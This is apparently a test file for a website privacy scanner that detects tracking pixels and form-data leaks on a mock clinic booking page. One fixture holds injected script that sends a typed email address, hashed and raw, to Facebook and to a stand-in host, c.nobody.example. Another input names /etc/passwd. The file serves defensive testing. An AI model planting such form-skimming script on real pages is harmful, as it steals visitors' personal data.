import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { type CliIo, exit } from '#app/cli/command.ts'
import { outputSchemas } from '#app/cli/output-schemas.ts'
import { readSavedEvidence } from '#app/cli/saved-evidence.ts'
import { command } from '#app/cli/site-scan.ts'
import { type Answer, startStandIn } from '#test/sites/stand-in.ts'

async function run(args: Array<string>, stdin = ''): Promise<{ code: number; out: string; err: string }> {
  let out = ''
  let err = ''
  const io: CliIo = {
    out: (text) => {
      out += text
    },
    err: (text) => {
      err += text
    },
    readStdin: async () => Buffer.from(stdin),
    colour: false,
    progressBar: false,
    signal: new AbortController().signal,
  }
  const code = await command.run(args, io)
  return { code, out, err }
}

const html =
  (pages: Record<string, string>): Answer =>
  ({ path }, response) => {
    const body = pages[path.split('?')[0]!]
    response.writeHead(body === undefined ? 404 : 200, { 'content-type': 'text/html' }).end(body ?? 'missing')
  }
const empty: Answer = (_request, response) => void response.writeHead(204, { 'access-control-allow-origin': '*' }).end()
const booking = (extra: string) => `<!doctype html><html lang="en"><title>Book a visit</title><h1>Book a visit</h1>
  <form><input name="name" placeholder="Full name"><input type="email" name="email" placeholder="Email">
  <input type="date" name="day" aria-label="Preferred date"></form>${extra}`
const pixel = `<script>new Image().src = 'https://www.facebook.com/tr/?id=123456789012345&ev=PageView&dl=' + encodeURIComponent(location.href)
  new Image().src = '/assets/tr?id=123456789012345&ev=ViewContent'
  fetch('/stats/g/collect?v=2&tid=G-AB12CD34EF&cid=1.2&en=page_view&dl=' + encodeURIComponent(location.href), { method: 'POST' })</script>`

const switches = (map: ReadonlyArray<readonly [string, string]>) => [
  '--lab',
  ...map.flatMap(([from, to]) => ['--map', `${from}=${to}`]),
]

test('a page with a pixel and a proxied measurement: recipients, ids, findings, exports and exit code 1', async () => {
  const site = await startStandIn({
    'clinic.test': html({ '/': booking(pixel) }),
    'www.facebook.com': empty,
  })
  const out = mkdtempSync(join(tmpdir(), 'proviso-cli-'))
  const first = await run([
    'http://clinic.test/',
    '--json',
    '--authority',
    'public',
    '--pages',
    '1',
    '--out',
    out,
    ...switches(site.map),
  ])
  const again = await run([
    'http://clinic.test/',
    '--json',
    '--authority',
    'public',
    '--pages',
    '1',
    ...switches(site.map),
  ])
  await site.close()
  const document = JSON.parse(first.out)
  expect(outputSchemas['site-scan'].safeParse(document).error).toBeUndefined()
  expect(first.code).toBe(exit.findings)
  expect(document).toMatchObject({
    tool: { name: 'proviso' },
    checklist: { id: 'tracking' },
    target: 'http://clinic.test/',
    outcome: 'assessed',
    reason: null,
    pages: [{ class: 'booking', risk: 'B', outcome: 'loaded', status: 200 }],
    leaks: [],
    refused: [],
  })
  const trackers = document.recipients.map(({ tracker, kind }: { tracker: { id: string }; kind: string }) => [
    tracker.id,
    kind,
  ])
  expect(trackers).toEqual(
    expect.arrayContaining([
      ['meta-pixel', 'third-party'],
      ['meta-pixel', 'first-party-proxy'],
      ['ga4', 'first-party-proxy'],
    ]),
  )
  const keys = (text: string) =>
    JSON.parse(text)
      .findings.flatMap(({ observations }: { observations: Array<{ key: string }> }) =>
        observations.map(({ key }) => key),
      )
      .sort()
  expect(keys(again.out)).toEqual(keys(first.out))
  expect(readdirSync(out).sort()).toEqual([
    'evidence.json',
    'findings.csv',
    'findings.sarif',
    'scan.har',
    'screenshots',
  ])
  expect(existsSync(join(out, document.pages[0].screenshot))).toBe(true)
  expect(JSON.parse(readFileSync(join(out, 'findings.sarif'), 'utf8')).runs).toHaveLength(1)
  const saved = await readSavedEvidence([out], async () => Buffer.alloc(0))
  expect(saved.map(({ kind }) => kind)).toEqual(['page'])
  rmSync(out, { recursive: true })
})

test('a clean page passes with exit code 0, a missing page is never clean', async () => {
  const site = await startStandIn({ 'clinic.test': html({ '/': booking('') }) })
  const clean = await run(['http://clinic.test/', '--pages', '1', '--authority', 'public', ...switches(site.map)])
  const missing = await run(['http://clinic.test/gone', '--pages', '1', '--json', ...switches(site.map)])
  const shown = await run(['http://clinic.test/gone', '--pages', '1', ...switches(site.map)])
  await site.close()
  expect(shown.out).toContain('cannot tell: no page was read')
  expect(shown.out).not.toContain('none found')
  expect(clean.out).toContain('Assessed')
  expect(clean.code).toBe(exit.ok)
  expect(missing.code).toBe(exit.unread)
  expect(JSON.parse(missing.out)).toMatchObject({ outcome: 'could-not-assess', reason: 'http-4xx' })
})

const leaky = `<script>
  const digest = async (text) => [...new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text)))].map((byte) => byte.toString(16).padStart(2, '0')).join('')
  const email = document.querySelector('[type=email]')
  email.addEventListener('change', async () => {
    new Image().src = 'https://www.facebook.com/tr/?id=123456789012345&ev=SubscribedButtonClick&udff[em]=' + await digest(email.value.trim().toLowerCase())
    navigator.sendBeacon('https://c.nobody.example/in', btoa(JSON.stringify({ who: email.value })))
  })</script>`

test('typed values are shown with field, encoding and recipient; the law line and the practice bar both say so, and no byte arrived', async () => {
  const site = await startStandIn({
    'clinic.test': html({ '/': booking(leaky) }),
    'www.facebook.com': empty,
    'c.nobody.example': empty,
  })
  const { code, out } = await run(['https://clinic.test/', '--json', '--pages', '1', ...switches(site.map)])
  const arrived = site.log.filter(({ host }) => host !== 'clinic.test')
  await site.close()
  const { leaks, findings, recipients } = JSON.parse(out)
  expect(code).toBe(exit.findings)
  const seen = leaks.map(({ field, recipient, value }: Record<string, string>) => [field, recipient, value])
  expect(seen).toEqual(
    expect.arrayContaining([
      ['email', 'www.facebook.com', 'canary'],
      ['email', 'c.nobody.example', 'canary'],
    ]),
  )
  expect(leaks.find(({ recipient }: { recipient: string }) => recipient === 'www.facebook.com').encoding).toMatch(
    /sha256/,
  )
  const verdict = (id: string) =>
    findings.find(({ requirement }: { requirement: string }) => requirement === id).verdict
  expect(verdict('tracking.typed-values-stay')).toBe('fail')
  expect(verdict('tracking.patient-data-not-shared')).toBe('fail')
  expect(verdict('tracking.hashed-contacts')).toBe('fail')
  const meta = recipients.find(({ tracker }: { tracker: { id: string } | null }) => tracker?.id === 'meta-pixel')
  expect(meta.receives).toContain('hashed-email')
  expect(arrived).toEqual([])
})

test('wrong usage is told in a sentence before anything is opened', async () => {
  const says = async (...args: Array<string>) => {
    try {
      await run(args)
      return 'nothing'
    } catch (error) {
      return (error as Error).message
    }
  }
  expect(await says()).toMatch(/No address/)
  expect(await says('http://clinic.test/', '--map', '*=127.0.0.1:1')).toMatch(/never opens/)
  expect(await says('http://clinic.test/', '--allow', '127.0.0.1:1')).toMatch(/never opens/)
  expect(await says('http://clinic.test/', '--consent', 'maybe')).toMatch(/--consent/)
  expect(await says('http://clinic.test/', '--viewport', 'watch')).toMatch(/--viewport/)
  expect(await says('http://clinic.test/', '--pages', 'many')).toMatch(/whole number/)
  expect(await says('http://clinic.test/', '--pages', '0')).toMatch(/--pages/)
  expect(await says('http://clinic.test/', '--authority', 'owner-proven')).toMatch(/portal/)
  expect(await says('http://clinic.test/', '--lab', '--map', 'x')).toMatch(/--map/)
  expect(await says('http://clinic.test/', '--har', '--sarif')).toMatch(/More than one format/)
  expect(await says('http://clinic.test/', '--now', 'soon')).toMatch(/date and time/)
})

test('addresses come from standard input, and a folder that cannot be made is told', async () => {
  const { code, out } = await run(['-', '--json'], '# mine\nftp://a.example/\n\nnothing here\n')
  expect(code).toBe(exit.unread)
  expect(JSON.parse(out).map(({ target }: { target: string }) => target)).toEqual(['ftp://a.example/', 'nothing here'])
  await expect(run(['ftp://a.example/', '--out', '/dev/null/folder'])).rejects.toThrow(/could not be written/)
  await expect(run(['-'], '\n')).rejects.toThrow(/empty-input/)
})

test('addresses that cannot be opened are answered one by one, with a reason', async () => {
  const { code, out } = await run(['file:///etc/passwd', 'not an address', '--json'])
  expect(code).toBe(exit.unread)
  expect(JSON.parse(out)).toMatchObject([
    {
      outcome: 'could-not-assess',
      reason: 'blocked-scheme',
      refused: [{ url: 'file:///etc/passwd', why: 'blocked-scheme' }],
      pages: [],
    },
    { outcome: 'could-not-assess', reason: 'bad-url', pages: [] },
  ])
})
